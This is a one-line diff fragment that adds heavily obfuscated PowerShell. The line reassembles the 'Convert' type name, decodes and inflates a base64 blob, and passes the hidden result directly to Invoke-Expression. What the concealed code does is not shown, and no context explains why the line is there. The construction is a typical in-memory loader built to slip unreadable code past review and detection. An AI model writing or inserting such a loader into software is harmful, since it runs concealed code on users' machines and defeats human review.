@@ -1,0 +1,1 @@
+${#/~\_}=[tYpe]("{1}{0}"-F'rt','ConVe');iex ( New-Object IO.StreamReader( (New-Object IO.Compression.DeflateStream( [IO.MemoryStream](${#/~\_}::"FROmbASE64stRiNG"('U0lWsFXwSy3X9U/KSk0uATJL9MJTk5xzMlPzSqwVVJL1XPLL83LyE1OCS4oy89I11DNKSgqs9PUT9VIrEnMLclL1C/Qr9EoqStQ1AQ==')) ,[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ascii)).ReadToEnd( )
